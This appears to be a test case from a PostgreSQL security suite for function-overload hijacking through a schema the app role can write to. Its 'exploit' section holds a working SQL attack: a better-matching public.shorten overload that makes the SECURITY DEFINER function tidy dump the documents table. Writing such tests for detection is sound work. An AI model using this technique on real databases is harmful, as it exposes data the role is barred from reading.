-- Functions found by name in a schema where the app role may create: an overload that fits better is called instead.
-- object: public.tidy(text)
-- object: schema:public
-- base: text
--- setup
RESET ROLE;
CREATE FUNCTION shorten(title varchar) RETURNS text LANGUAGE sql IMMUTABLE AS $$ SELECT left(title, 10) $$;
CREATE FUNCTION tidy(title text) RETURNS text LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp
    AS $$ BEGIN RETURN shorten(title); END $$;
--- leak
GRANT CREATE ON SCHEMA public TO {app};
--- exploit
CREATE FUNCTION public.shorten(title text) RETURNS text LANGUAGE sql
    AS $$ SELECT string_agg(body, ',') FROM public.documents $$;
SELECT WHERE tidy('x') LIKE '%of b%';
